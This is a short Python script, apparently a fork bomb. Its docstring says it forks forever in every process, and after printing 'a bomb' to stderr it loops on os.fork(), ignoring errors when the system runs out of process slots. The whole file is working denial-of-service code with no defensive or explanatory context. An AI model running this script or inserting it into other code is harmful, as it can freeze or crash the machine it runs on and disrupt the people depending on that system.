"""Forks for ever, in every process that comes of it."""

import os
import sys

print("a bomb", file=sys.stderr, flush=True)
while True:
    try:
        os.fork()
    except OSError:
        continue
